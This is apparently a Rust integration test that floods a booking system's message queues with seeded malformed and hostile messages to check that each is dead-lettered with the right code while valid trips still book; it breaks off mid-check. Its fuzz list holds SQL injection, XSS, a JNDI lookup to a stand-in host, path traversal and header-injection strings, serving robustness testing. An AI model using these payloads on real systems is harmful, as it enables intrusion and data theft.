//! A hostile stream: more than ten thousand mutated and random messages
//! spread over every work queue, with good trips interleaved. No role dies,
//! every bad message is dead-lettered (and archived) with its reason, and
//! every good trip books.
//!
//! The generator is seeded (xorshift, no `rand` in this crate) and checks
//! every message against the codec before it is sent: a message goes out
//! only when it is certain to be refused, with the dead-letter code it must
//! get computed here. So the count of dead letters is exact, and no valid
//! command ever reaches a worker (it would really call the sandbox). Each
//! message is signed by an identity allowed to send its type (ops when it
//! does not decode), so that its content, not its sender, is judged.

use std::collections::{BTreeMap, HashMap};
use std::time::{Duration, Instant};

use chrono::{DateTime, Utc};
use futures_util::future::join_all;
use lapin::options::{BasicPublishOptions, ConfirmSelectOptions, QueueDeclareOptions};
use lapin::types::{AMQPValue, FieldTable};
use lapin::{BasicProperties, Channel};
use serde_json::{Value, json};
use sqlx::Row;
use uuid::Uuid;

use autobook_broker::MessageKeys;
use autobook_broker::admission::stamp;
use autobook_contracts::senders::{Identity, senders_of};
use autobook_contracts::{Envelope, Message, MessageType, QueueRole, Topology};
use autobook_orchestrator::saga::Phase;
use autobook_orchestrator::watch::until_finished;
use autobook_tests::trips::{trip_json, trip_with};
use autobook_tests::{TestSystem, spawn_with};
use autobook_vault::{Keyring, Place};

const SEED: u64 = 0x00c0_ffee_5eed_2611;
/// Bad messages per work queue; five queues.
const PER_QUEUE: usize = 2_048;
/// Good trips submitted in the middle of the stream.
const GOOD_TRIPS: usize = 20;
/// Publishes whose confirms are awaited together.
const BATCH: usize = 256;
/// How long the stack may take to dead-letter and archive the whole stream.
const DEAD_LETTER_DEADLINE: Duration = Duration::from_secs(240);
const TRIP_DEADLINE: Duration = Duration::from_secs(180);

const DESTINATIONS: &[&str] = &[
    "LAX", "SFO", "SEA", "ORD", "BOS", "MIA", "DEN", "ATL", "LHR", "CDG",
];

/// Events with payloads that decode (checked in `templates_decode`).
const EVENT_TYPES: &[&str] = &[
    "search.failed",
    "payment.authorized",
    "payment.declined",
    "payment.failed",
    "payment.captured",
    "payment.capture_failed",
    "payment.voided",
    "payment.void_failed",
    "order.cancelled",
    "order.cancel_failed",
    "notification.sent",
    "notification.failed",
    "step.outcome_unknown",
    "saga.timer_fired",
    "saga.retry_requested",
    "saga.abort_requested",
];

/// Commands with payloads that decode. Only ever sent to a queue they do
/// not belong on.
const COMMAND_TYPES: &[&str] = &[
    "search.offers",
    "payment.capture",
    "payment.void",
    "order.cancel",
];

const HOSTILE: &[&str] = &[
    "'; DROP TABLE sagas; --",
    "\" OR \"1\"=\"1",
    "1; DELETE FROM dead_letters WHERE true; --",
    "$$; TRUNCATE inbox CASCADE; $$",
    "Robert'); DROP TABLE students;--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "%s%s%s%n%x",
    "\u{0}\u{1}\u{7}\u{8}\u{1b}[2J\r\n\t\u{7f}",
    "\u{202e}fdp.exe\u{200b}\u{feff}",
    "😀🔥👩‍👩‍👧‍👦",
    "\\u0000\\\"",
    "nobody@example.com\r\nBcc: everyone@example.com",
];

/// Personal data of `trip_json` (and only there: `HOSTILE` holds none of
/// it): never to be quoted in a reason.
const PERSONAL: &[&str] = &["Amelia", "Earhart", "amelia@", "+14155550100"];

/// xorshift64*: deterministic, good enough to pick mutations.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| (self.next() >> 24) as u8).collect()
    }

    fn uuid_v4(&mut self) -> Uuid {
        let bytes: [u8; 16] = self.bytes(16).try_into().unwrap();
        uuid::Builder::from_random_bytes(bytes).into_uuid()
    }

    fn uuid_v7(&mut self) -> Uuid {
        let random: [u8; 10] = self.bytes(10).try_into().unwrap();
        let millis = 1_790_000_000_000 + self.next() % 10_000_000_000;
        uuid::Builder::from_unix_timestamp_millis(millis, &random).into_uuid()
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
enum Kind {
    RandomBytes,
    Truncated,
    NotAnEnvelope,
    BadEnvelope,
    UnknownType,
    TooNew,
    WrongFieldTypes,
    Hostile,
    Huge,
    TooLarge,
    Orphan,
    WrongQueue,
    InvalidTrip,
}

/// One message of the stream, with the dead-letter code it must get.
struct Bad {
    role: QueueRole,
    kind: Kind,
    exchange: String,
    routing_key: String,
    properties: BasicProperties,
    body: Vec<u8>,
    code: String,
    /// Who publishes and signs it.
    signer: Identity,
}

/// Who signs `message`: a sender allowed to send its type that may
/// publish on its route (ops, which may send commands, when it does not
/// decode). A type only gateways send, headed for its own queue, goes to
/// its exchange as gateways publish it; headed elsewhere, ops signs it and
/// it is refused for its sender.
fn signer(message: &mut Bad, topology: &Topology, vault: &Keyring) -> Identity {
    let Ok(envelope) = Envelope::decode(&archived_form(vault, &message.body)) else {
        return Identity::Ops;
    };
    let t = envelope.message_type();
    let allowed = |exchange: &str| {
        senders_of(t)
            .iter()
            .copied()
            .find(|identity| may_publish(*identity, exchange, topology))
    };
    if let Some(identity) = allowed(&message.exchange) {
        return identity;
    }
    if t.consumer() == message.role {
        message.exchange = topology.exchange_for(t);
        message.routing_key = t.as_str().to_owned();
        return allowed(&message.exchange).unwrap_or(Identity::Ops);
    }
    message.code = "forbidden_sender".to_owned();
    Identity::Ops
}

/// Whether `identity` may publish to `exchange` (the broker's permissions).
fn may_publish(identity: Identity, exchange: &str, topology: &Topology) -> bool {
    if exchange.is_empty() {
        // The default exchange: roles that retry, and ops.
        !matches!(identity, Identity::Gateway | Identity::Publisher)
    } else if exchange == topology.commands_exchange() {
        identity.declares_topology()
    } else {
        true
    }
}

/// A confirm channel on the stack's connection of every identity, and the
/// keys the stack signs with.
struct Signers {
    channels: BTreeMap<Identity, Channel>,
    keys: MessageKeys,
}

impl Signers {
    async fn open(system: &TestSystem) -> Signers {
        let mut channels = BTreeMap::new();
        for identity in Identity::ALL {
            let channel = system.stack().broker_of(*identity).channel().await.unwrap();
            channel
                .confirm_select(ConfirmSelectOptions::default())
                .await
                .unwrap();
            channels.insert(*identity, channel);
        }
        Signers {
            channels,
            keys: system.stack().message_keys().clone(),
        }
    }

    async fn close(self) {
        for channel in self.channels.values() {
            let _ = channel.close(200, "done".into()).await;
        }
    }
}

fn hostile(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => (*rng.pick(HOSTILE)).to_owned(),
        1 => (0..3).map(|_| *rng.pick(HOSTILE)).collect(),
        2 => rng.pick(HOSTILE).repeat(1 + rng.below(40)),
        _ => {
            let n = 1 + rng.below(200);
            (0..n)
                .filter_map(|_| char::from_u32(rng.below(0x1_1000) as u32))
                .collect()
        }
    }
}

/// At least 100 KB of hostile text.
fn huge(rng: &mut Rng) -> String {
    let unit = rng.pick(HOSTILE);
    unit.repeat(100_000 / unit.len() + 1)
}

fn key(rng: &mut Rng, step: &str) -> String {
    format!("{}:{step}:{}", rng.uuid_v4(), 1 + rng.below(3))
}

fn money(rng: &mut Rng) -> Value {
    json!({"amount_minor": 1_000 + rng.below(90_000), "currency": "USD"})
}

/// A payload for `message_type` with `text` in its free-text fields. It
/// decodes for every type of `EVENT_TYPES` and `COMMAND_TYPES`; the others
/// are only used where the body is refused before the payload is read.
fn payload(rng: &mut Rng, message_type: &str, text: &str) -> Value {
    match message_type {
        "search.failed" => json!({"idempotency_key": key(rng, "search"), "detail": text}),
        "payment.authorized" | "payment.captured" => json!({
            "idempotency_key": key(rng, "authorize"),
            "payment_intent_id": text,
            "amount": money(rng),
        }),
        "payment.declined" => json!({
            "idempotency_key": key(rng, "authorize"),
            "decline_code": text,
            "detail": text,
        }),
        "payment.failed" => json!({"idempotency_key": key(rng, "authorize"), "detail": text}),
        "payment.capture_failed" | "payment.void_failed" => json!({
            "idempotency_key": key(rng, "capture"),
            "payment_intent_id": "pi_3Mtw",
            "detail": text,
        }),
        "payment.voided" | "payment.void" => {
            json!({"idempotency_key": key(rng, "void"), "payment_intent_id": text})
        }
        "order.cancelled" | "order.cancel" => {
            json!({"idempotency_key": key(rng, "cancel"), "order_id": text})
        }
        "order.cancel_failed" => json!({
            "idempotency_key": key(rng, "cancel"),
            "order_id": "ord_0000A",
            "detail": text,
        }),
        "notification.sent" => json!({"idempotency_key": key(rng, "notify"), "email_id": text}),
        "notification.failed" => json!({"idempotency_key": key(rng, "notify"), "detail": text}),
        "step.outcome_unknown" => json!({
            "idempotency_key": key(rng, "order"),
            "step": "order",
            "detail": text,
        }),
        "saga.timer_fired" => json!({
            "timer": {"kind": "recheck_step", "idempotency_key": key(rng, "order")}
        }),
        "saga.retry_requested" | "saga.abort_requested" => {
            json!({"operator": text, "reason": text})
        }
        "search.offers" => json!({
            "idempotency_key": key(rng, "search"),
            "origin": "JFK",
            "destination": *rng.pick(DESTINATIONS),
            "departure_date": "2027-03-14",
            "passenger_ages": [30],
            "cabin_class": "economy",
            "max_connections": 1,
        }),
        "payment.capture" => json!({
            "idempotency_key": key(rng, "capture"),
            "user_id": "usr_hostile",
            "payment_intent_id": text,
            "amount": money(rng),
        }),
        "trip.requested" => trip_json(),
        // Own commands of worker queues: only sent in undecodable bodies.
        "payment.authorize" => json!({
            "idempotency_key": key(rng, "authorize"),
            "amount": money(rng),
            "payment_method": "pm_card_visa",
            "description": text,
        }),
        "order.create" => json!({
            "idempotency_key": key(rng, "order"),
            "offer_id": "off_0000A",
            "amount": money(rng),
            "passengers": [],
        }),
        _ => json!({"idempotency_key": key(rng, "notify"), "to": "a@example.com", "content": {}}),
    }
}

fn wire(rng: &mut Rng, message_type: &str, payload: Value) -> Value {
    let mut wire = json!({
        "message_id": rng.uuid_v7(),
        "saga_id": rng.uuid_v4(),
        "message_type": message_type,
        "schema_version": 1,
        "occurred_at": "2026-11-21T12:00:00Z",
        "payload": payload,
    });
    if rng.below(3) == 0 {
        wire["causation_id"] = json!(rng.uuid_v7());
        wire["traceparent"] = json!("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01");
    }
    wire
}

fn to_vec(value: &Value) -> Vec<u8> {
    serde_json::to_vec(value).unwrap()
}

/// The types consumed by `role`.
fn own_types(role: QueueRole) -> Vec<&'static str> {
    role.message_types().map(|t| t.as_str()).collect()
}

/// Valid-shaped types that do not belong on `role` (for the orchestrator:
/// every command, and events for sagas that do not exist).
fn foreign_types(role: QueueRole, commands_only: bool) -> Vec<&'static str> {
    let events: &[&str] = if commands_only { &[] } else { EVENT_TYPES };
    COMMAND_TYPES
        .iter()
        .chain(events)
        .copied()
        .filter(|t| {
            role == QueueRole::Orchestrator || MessageType::parse(t).unwrap().consumer() != role
        })
        .collect()
}

/// A wrong-typed stand-in for `value`.
fn wrong_type(rng: &mut Rng, value: &Value) -> Value {
    match value {
        Value::String(_) => rng
            .pick(&[json!(42), json!(true), json!([]), json!({"a": 1})])
            .clone(),
        Value::Number(_) => rng
            .pick(&[json!("forty-two"), json!([1]), json!(true)])
            .clone(),
        Value::Array(_) => rng
            .pick(&[json!({"0": 30}), json!("[30]"), json!(7)])
            .clone(),
        Value::Object(_) => rng
            .pick(&[json!("[object Object]"), json!([]), json!(0)])
            .clone(),
        _ => json!({"unexpected": true}),
    }
}

/// An invalid trip: refused when decoded or when validated.
fn invalid_trip(rng: &mut Rng) -> Value {
    let mut trip = trip_json();
    match rng.below(10) {
        0 => trip["departure_date"] = json!("2020-01-01"),
        1 => trip["destination"] = json!("JFK"),
        2 => trip["departure_date"] = json!("2031-06-01"),
        3 => trip["destination"] = json!("ZZZ"),
        4 => trip["passengers"][0]["born_on"] = json!("2024-01-01"),
        5 => {
            let passenger = trip["passengers"][0].clone();
            trip["passengers"] = json!(vec![passenger; 10]);
        }
        6 => trip["return_date"] = json!("2020-01-02"),
        7 => trip["departure_window"] = json!({"earliest": "21:00", "latest": "06:00"}),
        8 => trip["airlines"] = json!(["AA", "AA"]),
        _ => trip["passengers"] = json!([]),
    }
    trip
}

/// A trip carrying hostile text in a field that is checked.
fn hostile_trip(rng: &mut Rng, text: String) -> Value {
    let mut trip = trip_json();
    match rng.below(7) {
        0 => trip["passengers"][0]["family_name"] = json!(text),
        1 => trip["passengers"][0]["given_name"] = json!(text),
        2 => trip["contact_email"] = json!(text),
        3 => trip["user_id"] = json!(text),
        4 => trip["origin"] = json!(text),
        5 => trip["passengers"][0]["phone_number"] = json!(text),
        _ => trip["payment"]["payment_method"] = json!(text),
    }
    trip
}

fn body(rng: &mut Rng, role: QueueRole, kind: Kind) -> Vec<u8> {
    let own = own_types(role);
    match kind {
        Kind::RandomBytes => {
            let n = rng.below(600);
            let mut bytes = rng.bytes(n);
            match rng.below(3) {
                0 => bytes.insert(0, b'{'),
                1 => bytes.iter_mut().for_each(|b| *b = b' ' + *b % 95),
                _ => {}
            }
            bytes
        }
        Kind::Truncated => {
            let t = *rng.pick(&own);
            let text = hostile(rng);
            let p = payload(rng, t, &text);
            let full = to_vec(&wire(rng, t, p));
            let cut = rng.below(full.len());
            full[..cut].to_vec()
        }
        Kind::NotAnEnvelope => match rng.below(9) {
            0 => to_vec(&json!(rng.next())),
            1 => to_vec(&json!(hostile(rng))),
            2 => to_vec(&json!([rng.uuid_v7(), "trip.requested", 1, null])),
            3 => to_vec(&json!({"message_id": rng.uuid_v7(), "hello": hostile(rng)})),
            4 => {
                let depth = 200 + rng.below(5_000);
                format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes()
            }
            5 => b"1e99999999".to_vec(),
            6 => to_vec(&Value::Null),
            7 => {
                // A valid envelope behind a byte-order mark.
                let t = *rng.pick(&own);
                let p = payload(rng, t, "x");
                let mut bytes = "\u{feff}".as_bytes().to_vec();
                bytes.extend(to_vec(&wire(rng, t, p)));
                bytes
            }
            _ => {
                let p = payload(rng, "search.failed", "x");
                let mut w = wire(rng, "search.failed", p);
                w["payload"] = json!({"deep": {"er": [[[{"x": hostile(rng)}]]]}});
                to_vec(&json!({"envelope": w}))
            }
        },
        Kind::BadEnvelope => {
            let t = *rng.pick(EVENT_TYPES);
            let p = payload(rng, t, "x");
            let mut w = wire(rng, t, p);
            match rng.below(12) {
                0 => w["message_id"] = json!(rng.uuid_v4()),
                1 => w["message_id"] = json!(hostile(rng)),
                2 => w["saga_id"] = json!(Uuid::nil()),
                3 => w["saga_id"] = json!(12345),
                4 => w["occurred_at"] = json!("yesterday at noon"),
                5 => w["schema_version"] = json!(-1),
                6 => w["schema_version"] = json!("1"),
                7 => w["schema_version"] = json!(70_000),
                8 => w["message_type"] = json!(42),
                9 => {
                    let field =
                        *rng.pick(&["message_id", "saga_id", "message_type", "occurred_at"]);
                    w.as_object_mut().unwrap().remove(field);
                }
                10 => w["causation_id"] = json!("not-a-uuid"),
                _ => {
                    // A duplicated field: serde_json keeps the last one, so
                    // this decodes and is refused as unknown_saga/wrong_queue.
                    let mut text = String::from_utf8(to_vec(&w)).unwrap();
                    text.insert_str(1, &format!("\"saga_id\":\"{}\",", rng.uuid_v4()));
                    return text.into_bytes();
                }
            }
            to_vec(&w)
        }
        Kind::UnknownType => {
            let real = *rng.pick(&own);
            let name = match rng.below(8) {
                0 => hostile(rng),
                1 => real.to_uppercase(),
                2 => format!("{real} "),
                3 => format!("{real}\u{0}"),
                4 => real.replace('.', "_"),
                5 => format!("{real}.v2"),
                6 => String::new(),
                _ => (*rng.pick(&[
                    "trip.teleported",
                    "trip.cancelled",
                    "payment.refund_everything",
                    "*",
                    "#",
                ]))
                .to_owned(),
            };
            let p = payload(rng, real, "x");
            to_vec(&wire(rng, &name, p))
        }
        Kind::TooNew => {
            let t = *rng.pick(&own);
            let p = payload(rng, t, "x");
            let mut w = wire(rng, t, p);
            w["schema_version"] = json!(2 + rng.below(65_534));
            to_vec(&w)
        }
        Kind::WrongFieldTypes => {
            let t = *rng.pick(&own);
            let mut p = payload(rng, t, "x");
            if rng.below(5) == 0 {
                p = rng
                    .pick(&[json!("payload"), json!([p]), json!(3.5), Value::Null])
                    .clone();
            } else if let Some(fields) = p.as_object_mut() {
                let names: Vec<String> = fields.keys().cloned().collect();
                let name = rng.pick(&names).clone();
                let wrong = wrong_type(rng, &fields[&name]);
                fields.insert(name, wrong);
            }
            to_vec(&wire(rng, t, p))
        }
        Kind::Hostile | Kind::Huge => {
            let text = if kind == Kind::Huge {
                huge(rng)
            } else {
                hostile(rng)
            };
            match rng.below(4) {
                0 if role == QueueRole::Orchestrator => {
                    let trip = hostile_trip(rng, text);
                    to_vec(&wire(rng, "trip.requested", trip))
                }
                1 => {
                    let real = *rng.pick(&own);
                    let p = payload(rng, real, "x");
                    to_vec(&wire(rng, &text, p))
                }
                _ => {
                    let t = *rng.pick(&foreign_types(role, false));
                    let p = payload(rng, t, &text);
                    to_vec(&wire(rng, t, p))
                }
            }
        }
        Kind::TooLarge => {
            let t = *rng.pick(&own);
            let p = payload(rng, t, "x");
            let mut w = wire(rng, t, p);
            w["padding"] = json!("x".repeat(1_100_000));
            to_vec(&w)
        }
        Kind::Orphan => {
            let t = *rng.pick(EVENT_TYPES);
            let p = payload(rng, t, "the provider said no");
            to_vec(&wire(rng, t, p))
        }
        Kind::WrongQueue => {
            let t = *rng.pick(&foreign_types(role, true));
            let p = payload(rng, t, "pi_3MtwBwLkdIwHu7ix28a3tqPa");
            to_vec(&wire(rng, t, p))
        }
        Kind::InvalidTrip => {
            let trip = invalid_trip(rng);
            to_vec(&wire(rng, "trip.requested", trip))
        }
    }
}

/// The dead-letter code the stack must give `body` on `role`'s queue
/// (opened with `vault`, as the consumer does). Panics if the body could be
/// processed: the stream must be all bad.
fn expected_code(vault: &Keyring, role: QueueRole, kind: Kind, body: &[u8]) -> String {
    let opened = match vault.open_envelope(body) {
        Err(error) => return error.code().to_owned(),
        Ok(opened) => opened,
    };
    let envelope = match Envelope::decode(&opened) {
        Err(error) => return error.code().to_owned(),
        Ok(envelope) => envelope,
    };
    match (role, &envelope.message) {
        (QueueRole::Orchestrator, Message::TripRequested(trip)) => {
            assert!(
                trip.validate(Utc::now()).is_err(),
                "the generator made a valid trip ({kind:?}): {}",
                String::from_utf8_lossy(body)
            );
            "invalid_trip".to_owned()
        }
        (QueueRole::Orchestrator, _) => "unknown_saga".to_owned(),
        (worker, _) => {
            assert_ne!(
                envelope.message_type().consumer(),
                worker,
                "the generator made a valid command for {worker:?} ({kind:?}): {}",
                String::from_utf8_lossy(body)
            );
            "wrong_queue".to_owned()
        }
    }
}

fn text(s: &str) -> AMQPValue {
    AMQPValue::LongString(s.to_owned().into())
}

fn properties(rng: &mut Rng) -> BasicProperties {
    let plain = BasicProperties::default()
        .with_content_type("application/json".into())
        .with_delivery_mode(2);
    match rng.below(10) {
        0 => BasicProperties::default(),
        1 => {
            // Lies in every property, and forged dead-letter headers that
            // must not survive dead-lettering.
            let mut headers = FieldTable::default();
            headers.insert("x-autobook-error-code".into(), text("forged"));
            headers.insert("x-autobook-reason".into(), text(""));
            headers.insert("x-autobook-source-queue".into(), text("autobook.forged"));
            headers.insert(
                "x-autobook-dead-letter-id".into(),
                text("01937a2e-5b1c-7c3e-9f00-4a1b2c3d4e5f"),
            );
            headers.insert("x-autobook-attempts".into(), text("many"));
            headers.insert("traceparent".into(), text("<script>alert(1)</script>"));
            headers.insert("schema_version".into(), AMQPValue::LongLongInt(-1));
            BasicProperties::default()
                .with_content_type("text/html; charset=\"<x>\"".into())
                .with_delivery_mode(1)
                .with_message_id("'; DROP TABLE inbox; --".into())
                .with_correlation_id("not-a-saga".into())
                .with_type("payment.capture".into())
                .with_headers(headers)
        }
        2 => {
            // Control characters in header values.
            let mut headers = FieldTable::default();
            // Never U+0000: see `a_nul_in_a_header_does_not_block_the_archive`.
            headers.insert("x-note".into(), text(&hostile(rng).replace('\0', "")));
            headers.insert(
                "x-control".into(),
                text("bell\u{7} escape\u{1b}[0m del\u{7f} end"),
            );
            plain.with_headers(headers)
        }
        _ => plain,
    }
}

/// The stream; three bodies in four have their personal fields sealed with
/// `vault` (a publisher holding the keyring), the fourth is sent as made.
fn generate(topology: &Topology, vault: &Keyring, rng: &mut Rng) -> Vec<Bad> {
    let mut messages = Vec::with_capacity(PER_QUEUE * QueueRole::ALL.len());
    for role in QueueRole::ALL {
        let mut kinds = vec![
            (Kind::RandomBytes, 2),
            (Kind::Truncated, 2),
            (Kind::NotAnEnvelope, 1),
            (Kind::BadEnvelope, 2),
            (Kind::UnknownType, 1),
            (Kind::TooNew, 1),
            (Kind::WrongFieldTypes, 2),
            (Kind::Hostile, 2),
            (Kind::Orphan, 1),
            (Kind::WrongQueue, 1),
        ];
        if *role == QueueRole::Orchestrator {
            kinds.push((Kind::InvalidTrip, 2));
        }
        let weighted: Vec<Kind> = kinds
            .iter()
            .flat_map(|(kind, weight)| std::iter::repeat_n(*kind, *weight))
            .collect();
        for n in 0..PER_QUEUE {
            let kind = if n % 1_024 == 7 {
                Kind::TooLarge
            } else if n % 64 == 3 {
                Kind::Huge
            } else {
                *rng.pick(&weighted)
            };
            let made = body(rng, *role, kind);
            let body = match n % 4 {
                0 => made,
                _ => vault.seal_envelope(&made).into_owned(),
            };
            let code = expected_code(vault, *role, kind, &body);
            let (exchange, routing_key) = if rng.below(10) < 7 {
                (String::new(), topology.queue(*role))
            } else {
                let keys = own_types(*role);
                let exchange = match role {
                    QueueRole::Orchestrator => topology.events_exchange(),
                    _ => topology.commands_exchange(),
                };
                (exchange, (*rng.pick(&keys)).to_owned())
            };
            let mut message = Bad {
                role: *role,
                kind,
                exchange,
                routing_key,
                properties: properties(rng),
                body,
                code,
                signer: Identity::Ops,
            };
            message.signer = signer(&mut message, topology, vault);
            messages.push(message);
        }
    }
    // Interleave the queues.
    for i in (1..messages.len()).rev() {
        let j = rng.below(i + 1);
        messages.swap(i, j);
    }
    messages
}

/// A body as the archive holds it, once opened: its personal fields opened
/// too, when they open.
fn archived_form(vault: &Keyring, body: &[u8]) -> Vec<u8> {
    vault
        .open_envelope(body)
        .map_or_else(|_| body.to_vec(), |opened| opened.into_owned())
}

/// Publishes `batch`, each message signed on its signer's confirm
/// channel, pipelining the confirms.
async fn publish_batch(signers: &Signers, batch: &[Bad]) {
    let mut pending = Vec::with_capacity(batch.len());
    for message in batch {
        let properties = stamp(
            message.properties.clone(),
            message.signer,
            &signers.keys,
            &message.body,
        );
        let confirm = signers.channels[&message.signer]
            .basic_publish(
                message.exchange.clone().into(),
                message.routing_key.clone().into(),
                BasicPublishOptions {
                    mandatory: true,
                    ..BasicPublishOptions::default()
                },
                &message.body,
                properties,
            )
            .await
            .unwrap();
        pending.push(confirm);
    }
    for (confirmation, message) in join_all(pending).await.into_iter().zip(batch) {
        let confirmation = confirmation.unwrap();
        assert!(!confirmation.is_nack(), "the broker refused a message");
        assert!(
            confirmation.take_message().is_none(),
            "unroutable: {} {}",
            message.exchange,
            message.routing_key
        );
    }
}

async fn archived_by_queue(system: &TestSystem) -> BTreeMap<String, i64> {
    sqlx::query_as::<_, (String, i64)>(
        "SELECT source_queue, count(*) FROM dead_letters GROUP BY source_queue",
    )
    .fetch_all(&system.stack().pool)
    .await
    .unwrap()
    .into_iter()
    .collect()
}

/// (messages ready, consumers) of a queue.
async fn queue_state(system: &TestSystem, queue: &str) -> (u32, u32) {
    let channel = system.stack().broker.channel().await.unwrap();
    let declared = channel
        .queue_declare(
            queue.to_owned().into(),
            QueueDeclareOptions {
                passive: true,
                ..QueueDeclareOptions::default()
            },
            FieldTable::default(),
        )
        .await
        .unwrap();
    let _ = channel.close(200, "done".into()).await;
    (declared.message_count(), declared.consumer_count())
}

/// Waits for every saga of `ids` (one at a time: each wait holds a pooled
/// connection) and checks each booked.
async fn book(system: &TestSystem, ids: &[Uuid]) -> Vec<(Uuid, Phase)> {
    let deadline = Instant::now() + TRIP_DEADLINE;
    let mut phases = Vec::new();
    for id in ids {
        let left = deadline.saturating_duration_since(Instant::now());
        let row = until_finished(&system.stack().pool, &system.stack().vault, *id, left)
            .await
            .unwrap();
        let Some(row) = row else {
            let status = system.saga(*id).await.map(|row| row.status);
            panic!("saga {id} did not finish in {TRIP_DEADLINE:?}; its status is {status:?}");
        };
        assert_eq!(
            row.saga.phase.status(),
            "booked",
            "saga {id}: {:?}",
            row.saga.phase
        );
        phases.push((*id, row.saga.phase));
    }
    phases
}

#[test]
fn templates_decode() {
    let mut rng = Rng::new(SEED);
    for t in EVENT_TYPES.iter().chain(COMMAND_TYPES) {
        let p = payload(&mut rng, t, "x");
        let body = to_vec(&wire(&mut rng, t, p));
        let decoded = Envelope::decode(&body);
        assert!(decoded.is_ok(), "{t}: {decoded:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_hostile_messages_are_dead_lettered_while_good_trips_book() {
    let started = Instant::now();
    let system = spawn_with(|config| {
        // The archive is where the dead letters are counted.
        config.orchestrator.archive_dead_letters = true;
    })
    .await;
    let topology = system.topology.clone();
    let mut rng = Rng::new(SEED);
    let stream = generate(&topology, &system.stack().vault, &mut rng);
    let mut expected_counts: BTreeMap<String, i64> = BTreeMap::new();
    let mut by_kind: BTreeMap<(Kind, &str), usize> = BTreeMap::new();
    let mut expected: HashMap<(String, Vec<u8>), (&str, usize)> = HashMap::new();
    for message in &stream {
        let queue = topology.queue(message.role);
        *expected_counts.entry(queue.clone()).or_default() += 1;
        *by_kind
            .entry((message.kind, message.code.as_str()))
            .or_default() += 1;
        let entry = expected
            .entry((queue, archived_form(&system.stack().vault, &message.body)))
            .or_insert((message.code.as_str(), 0));
        assert_eq!(entry.0, message.code, "one body, one code");
        entry.1 += 1;
    }
    let bytes: usize = stream.iter().map(|m| m.body.len()).sum();
    eprintln!(
        "generated {} bad messages ({} MB) in {:?}; by kind and expected code: {by_kind:?}",
        stream.len(),
        bytes / 1_000_000,
        started.elapsed()
    );
    assert!(stream.len() >= 10_000);

    // The stream, with good trips submitted in its middle.
    let signers = Signers::open(&system).await;
    let batches: Vec<&[Bad]> = stream.chunks(BATCH).collect();
    let first_trip = (batches.len() - GOOD_TRIPS) / 2;
    let publishing = Instant::now();
    let mut good = Vec::new();
    for (n, batch) in batches.iter().enumerate() {
        if (first_trip..first_trip + GOOD_TRIPS).contains(&n) {
            let destination = DESTINATIONS[good.len() % DESTINATIONS.len()];
            let trip = trip_with(|t| t["destination"] = destination.into());
            good.push(system.submit(trip).await);
        }
        publish_batch(&signers, batch).await;
    }
    signers.close().await;
    eprintln!(
        "published {} bad messages and {} trips in {:?}",
        stream.len(),
        good.len(),
        publishing.elapsed()
    );

    let mut phases = book(&system, &good).await;
    eprintln!(
        "{} good trips booked after {:?}",
        good.len(),
        started.elapsed()
    );

    // Every bad message reaches its dead-letter queue, whence the archiver
    // copies it into `dead_letters`.
    let waiting = Instant::now();
    let mut reported = Instant::now();
    loop {
        let archived = archived_by_queue(&system).await;
        if archived == expected_counts {
            break;
        }
        for (queue, count) in &archived {
            let want = expected_counts.get(queue).copied().unwrap_or(0);
            assert!(
                *count <= want,
                "{queue}: {count} dead letters, only {want} bad messages were sent"
            );
        }
        if waiting.elapsed() > DEAD_LETTER_DEADLINE {
            let mut states = Vec::new();
            for role in QueueRole::ALL {
                for queue in [topology.queue(*role), topology.dead_letter_queue(*role)] {
                    states.push((queue.clone(), queue_state(&system, &queue).await));
                }
            }
            panic!(
                "after {DEAD_LETTER_DEADLINE:?} the archive holds {archived:?}, expected \
                 {expected_counts:?}; queues (ready, consumers): {states:?}"
            );
        }
        if reported.elapsed() > Duration::from_secs(5) {
            eprintln!("archived so far: {archived:?}");
            reported = Instant::now();
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    eprintln!(
        "all {} dead letters archived after {:?}",
        stream.len(),
        started.elapsed()
    );

    // Each one is the message sent, with the expected code and its reason.
    let rows = sqlx::query(
        "SELECT id, source_queue, role, code, reason, headers, dead_lettered_at, body FROM dead_letters",
    )
    .fetch_all(&system.stack().pool)
    .await
    .unwrap();
    let mut problems = Vec::new();
    let mut codes: BTreeMap<(String, String), usize> = BTreeMap::new();
    for row in &rows {
        let source: String = row.get("source_queue");
        let role: String = row.get("role");
        let code: String = row.get("code");
        let reason: String = row.get("reason");
        let headers: Value = row.get("headers");
        let at: DateTime<Utc> = row.get("dead_lettered_at");
        // Archived sealed: compared with what was sent once opened.
        let body = system
            .stack()
            .vault
            .open_bytes(
                row.get("body"),
                &Place::dead_letter(row.get::<Uuid, _>("id")),
                "body",
            )
            .unwrap()
            .into_owned();
        *codes.entry((role.clone(), code.clone())).or_default() += 1;
        let header = |name: &str| headers.get(name).and_then(Value::as_str);
        let mut problem = |what: String| {
            let start: String = String::from_utf8_lossy(&body).chars().take(120).collect();
            problems.push(format!("{source} {code}: {what}; body starts {start:?}"));
        };
        match expected.get_mut(&(source.clone(), body.clone())) {
            Some((want, left)) if *left > 0 => {
                *left -= 1;
                if code != *want {
                    problem(format!("expected code {want}, got {code} ({reason})"));
                }
            }
            _ => problem("not a message of the stream (or archived twice)".into()),
        }
        if source != format!("{}.{role}", topology.namespace()) {
            problem(format!("archived for role {role}"));
        }
        if header("x-autobook-error-code") != Some(code.as_str()) {
            problem(format!(
                "x-autobook-error-code is {:?}",
                header("x-autobook-error-code")
            ));
        }
        if header("x-autobook-source-queue") != Some(source.as_str()) {
            problem(format!(
